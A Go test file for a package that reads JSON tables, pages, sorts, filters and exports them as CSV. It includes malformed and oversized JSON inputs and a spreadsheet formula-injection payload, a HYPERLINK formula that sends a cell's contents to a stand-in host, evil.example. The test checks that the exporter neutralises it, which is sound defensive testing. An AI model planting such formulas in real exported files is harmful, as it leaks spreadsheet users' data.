package table_test

import (
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"reflect"
	"strings"
	"testing"

	"github.com/photon-beam/beam/generators"
	"github.com/photon-beam/beam/web/internal/jsonstream"
	"github.com/photon-beam/beam/web/internal/table"
)

func open(t testing.TB, body string) *table.Table {
	t.Helper()
	opened, err := table.Open(strings.NewReader(body))
	if err != nil {
		t.Fatalf("%v: %.200s", err, body)
	}
	return opened
}

// firstCells returns the first cells of a page's rows, separated by spaces.
func firstCells(p table.Page) string {
	var cells []string
	for _, row := range p.Rows {
		cells = append(cells, fmt.Sprint(row[0]))
	}
	return strings.Join(cells, " ")
}

const people = `{"columns":["Name","Age","Note"],"rows":[["Bob",30,"a \"quote\""],["ada",7,null],["Cid",null,"ÄPFEL"],["dora",-1.5e1,{"x":[1,2]}],["Eve","12",true]]}`

func TestRead(t *testing.T) {
	for _, tt := range []struct {
		query       table.Query
		want        string
		total, page int
	}{
		{table.Query{}, "Bob ada Cid dora Eve", 5, 1},
		{table.Query{Page: 7}, "Bob ada Cid dora Eve", 5, 1},
		{table.Query{Sort: 1}, "ada Bob Cid dora Eve", 5, 1},
		{table.Query{Sort: 1, Descending: true}, "Eve dora Cid Bob ada", 5, 1},
		{table.Query{Sort: 2}, "dora ada Eve Bob Cid", 5, 1},
		{table.Query{Sort: 2, Descending: true}, "Bob Eve ada dora Cid", 5, 1},
		{table.Query{Sort: 9}, "Bob ada Cid dora Eve", 5, 1},
		{table.Query{Text: "A"}, "Bob ada dora", 5, 1},
		{table.Query{Text: "äpf"}, "Cid", 5, 1},
		{table.Query{Text: `"QUOTE`}, "Bob", 5, 1},
		{table.Query{Text: "nobody"}, "", 5, 1},
		{table.Query{Text: "o", Sort: 1, Descending: true}, "dora Bob", 5, 1},
	} {
		p, err := open(t, people).Read(t.Context(), tt.query, 3)
		if err != nil || firstCells(p) != tt.want || p.Total != tt.total || p.Number != tt.page || p.Matching != len(p.Rows) {
			t.Errorf("%+v: %+v %v, want %s", tt.query, p, err, tt.want)
		}
	}
	p, err := open(t, people).Read(t.Context(), table.Query{}, 3)
	if want := []any{"dora", json.Number("-1.5e1"), json.RawMessage(`{"x":[1,2]}`)}; err != nil || !reflect.DeepEqual(p.Rows[3], want) {
		t.Errorf("the row is %#v, want %#v", p.Rows[3], want)
	}
}

func TestPages(t *testing.T) {
	body := largeTable(1050)
	for _, tt := range []struct {
		query table.Query
		rows  int
		first string
		pages int
	}{
		{table.Query{}, 200, "0", 6},
		{table.Query{Page: 2}, 200, "200", 6},
		{table.Query{Page: 6}, 50, "1000", 6},
		{table.Query{Page: 1 << 62}, 50, "1000", 6},
		{table.Query{Page: -4}, 200, "0", 6},
		{table.Query{Sort: 1, Descending: true, Page: 6}, 50, "49", 6},
		{table.Query{Sort: 1, Descending: true, Page: 1 << 62}, 50, "49", 6},
		{table.Query{Text: "row 10", Page: 1}, 61, "10", 1}, // 10, 100 to 109, 1000 to 1049
	} {
		p, err := open(t, body).Read(t.Context(), tt.query, 2)
		if err != nil || len(p.Rows) != tt.rows || fmt.Sprint(p.Rows[0][0]) != tt.first || p.Pages != tt.pages || p.Total != 1050 {
			t.Errorf("%+v: page %d of %d with %d rows from %v, %v; want %+v", tt.query, p.Number, p.Pages, len(p.Rows), p.Rows[0], err, tt)
		}
	}
}

func largeTable(rows int) string {
	t := generators.Table{Columns: []string{"n", "text", "hash", "ratio"}}
	for i := range rows {
		t.Rows = append(t.Rows, []any{i, fmt.Sprintf("Row %d", i), (i * 7919) % 100_003, float64(i) / 7})
	}
	raw, err := json.Marshal(t)
	if err != nil {
		panic(err)
	}
	return string(raw)
}

// The columns may follow the rows, and a table may lack either.
func TestMembersInAnyOrder(t *testing.T) {
	for body, want := range map[string]string{
		`{"x":{"rows":[[9]]},"rows":[[1],[2]],"columns":["a"],"y":1}`: "1 2",
		`{"columns":["a"]}`:             "",
		`{"columns":["a"],"rows":null}`: "",
		` { "columns" : [ "a" ] , "rows" : [ ` + "\n" + ` [ 1 ] , [ 2 ] ] } `: "1 2",
		`{"columns":["a"],"rows":[[1,2,3],[2]]}`:                              "1 2",
	} {
		p, err := open(t, body).Read(t.Context(), table.Query{}, 1)
		if err != nil || firstCells(p) != want {
			t.Errorf("%s: %s %v", body, firstCells(p), err)
		}
	}
}

func TestListOfObjects(t *testing.T) {
	const body = `{"n":1,"a/b":[[],[{"id":2,"x":"two"},{"y":null,"id":1}]]}`
	opened, err := table.OpenList(t.Context(), strings.NewReader(body), "/a~1b/1")
	if err != nil {
		t.Fatal(err)
	}
	p, err := opened.Read(t.Context(), table.Query{Sort: 1}, 3)
	if want := [][]any{{json.Number("1"), nil, nil}, {json.Number("2"), "two", nil}}; err != nil || !reflect.DeepEqual(p.Rows, want) || strings.Join(opened.Columns, " ") != "id x y" {
		t.Errorf("%v %v %v", opened.Columns, p.Rows, err)
	}
	for _, pointer := range []string{"", "/n", "/a~1b", "/a~1b/0", "/a~1b/2", "/a~1b/01", "/b", "x", "/a~1b/1/0"} {
		if _, err := table.OpenList(t.Context(), strings.NewReader(body), pointer); !errors.Is(err, table.ErrNotTable) {
			t.Errorf("%q: %v", pointer, err)
		}
	}
}

// A cell that a spreadsheet would take for a formula is a text in the file.
func TestCSV(t *testing.T) {
	body, err := json.Marshal(generators.Table{Columns: []string{"=cmd", "b"}, Rows: [][]any{
		{`=HYPERLINK("http://evil.example/?"&A1)`, -5}, {"+49 30 1", "-2.5"}, {"@x", "-x"}, {"\ty", "+1e3"}, {"＝x", nil}, {"a,\"b\"\nc", true}, {"\ufeff=x", "\u200b\x00+x"},
	}})
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	if err := open(t, string(body)).WriteDelimited(t.Context(), &b, table.Query{}, ','); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	want := [][]string{{"'=cmd", "b"}, {`'=HYPERLINK("http://evil.example/?"&A1)`, "-5"}, {"'+49 30 1", "-2.5"}, {"'@x", "'-x"}, {"'\ty", "+1e3"}, {"'＝x", ""}, {"a,\"b\"\nc", "true"}, {"'\ufeff=x", "'\u200b\x00+x"}}
	if err != nil || !reflect.DeepEqual(got, want) {
		t.Errorf("%v\n%q, want\n%q", err, got, want)
	}
	b.Reset()
	if err := open(t, people).WriteDelimited(t.Context(), &b, table.Query{Sort: 1, Descending: true, Text: "d"}, '\t'); err != nil || b.String() != "Name\tAge\tNote\ndora\t-1.5e1\t\"{\"\"x\"\":[1,2]}\"\nCid\t\tÄPFEL\nada\t7\t\n" {
		t.Error(err, b.String())
	}
}

// Anything that is not a table, cut or odd, is an error or an empty page.
func TestHostileTables(t *testing.T) {
	deep := strings.Repeat("[", 1<<20)
	for _, body := range []string{"", "null", "7", "[]", `{"columns":5}`, `{"columns":["a"],"rows":[[1],`, `{"columns":["a"],"rows":[1,"x",{"a":1},null,[],[[1]]]}`, `{"columns":["a"],"rows":` + deep, `{"columns":["a"],"rows":[` + deep,
		`{"columns":["a"],"rows":[,,]}`, `{"columns":["a"],"rows":[:}`, `{"columns":["a"],"rows":[1 2 3}`, `{"a`, `{"columns":["a"],"rows":[["` + strings.Repeat("x", jsonstream.MaxValue) + `"]]}`, `{"columns":["a"],"rows":[["\`, "{\"columns\":[\"\xff\"],\"rows\":[[\"\xff\"],[\"\\ud800\"]]}"} {
		opened, err := table.Open(strings.NewReader(body))
		if err != nil {
			continue
		}
		for _, q := range []table.Query{{}, {Sort: 1}, {Text: "x"}, {Sort: 1, Text: "1"}} {
			if p, err := opened.Read(t.Context(), q, 60); err == nil && p.Matching > 6 {
				t.Errorf("%.60q: %+v", body, p)
			}
		}
	}
	if _, err := open(t, `{"columns":["a"],"rows":[["`+strings.Repeat("x", jsonstream.MaxValue)+`"]]}`).Read(t.Context(), table.Query{}, 1); !errors.Is(err, jsonstream.ErrTooLarge) {
		t.Errorf("the error is %v", err)
	}
	wide := `{"columns":["a"` + strings.Repeat(`,"b"`, 500_000) + `],"rows":[[1` + strings.Repeat(",2", 999_999) + `]]}`
	if p, err := open(t, wide).Read(t.Context(), table.Query{Sort: 400_000}, 60); err != nil || len(p.Rows[0]) != 60 {
		t.Errorf("%v", err)
	}
}

func TestTooManyRowsToSort(t *testing.T) {
	body := `{"columns":["a"],"rows":[` + strings.Repeat("[1],", 200_000) + `[2]]}`
	if _, err := open(t, body).Read(t.Context(), table.Query{Sort: 1}, 1); !errors.Is(err, table.ErrTooLong) {
		t.Errorf("the error is %v", err)
	}
	if p, err := open(t, body).Read(t.Context(), table.Query{Page: 2001}, 1); err != nil || firstCells(p) != "2" || p.Total != 200_001 {
		t.Errorf("%+v %v", p, err)
	}
	if p, err := open(t, body).Read(t.Context(), table.Query{Sort: 1, Text: "2"}, 1); err != nil || firstCells(p) != "2" {
		t.Errorf("%+v %v", p, err)
	}
}

// BenchmarkRead reads a page of a table of 100,000 rows: the first, one of those that match
// a text, and the last of all in another order.
func BenchmarkRead(b *testing.B) {
	body := largeTable(100_000)
	for name, q := range map[string]table.Query{
		"first": {}, "filtered": {Text: "row 9"}, "sorted": {Sort: 3, Page: 500}, "filtered and sorted": {Text: "row 9", Sort: 2, Descending: true},
	} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			b.SetBytes(int64(len(body)))
			for b.Loop() {
				if _, err := open(b, body).Read(b.Context(), q, 4); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

func FuzzRead(f *testing.F) {
	f.Add(people, "a", 1)
	f.Add(`[{"a":1},{"b":[2]}]`, "", 0)
	f.Fuzz(func(t *testing.T, body, text string, sort int) {
		q := table.Query{Text: text, Sort: sort}
		if opened, err := table.Open(strings.NewReader(body)); err == nil {
			opened.Read(t.Context(), q, 3)
		}
		if opened, err := table.OpenList(t.Context(), strings.NewReader(body), ""); err == nil {
			opened.Read(t.Context(), q, 3)
			opened.WriteDelimited(t.Context(), &strings.Builder{}, q, ',')
		}
	})
}
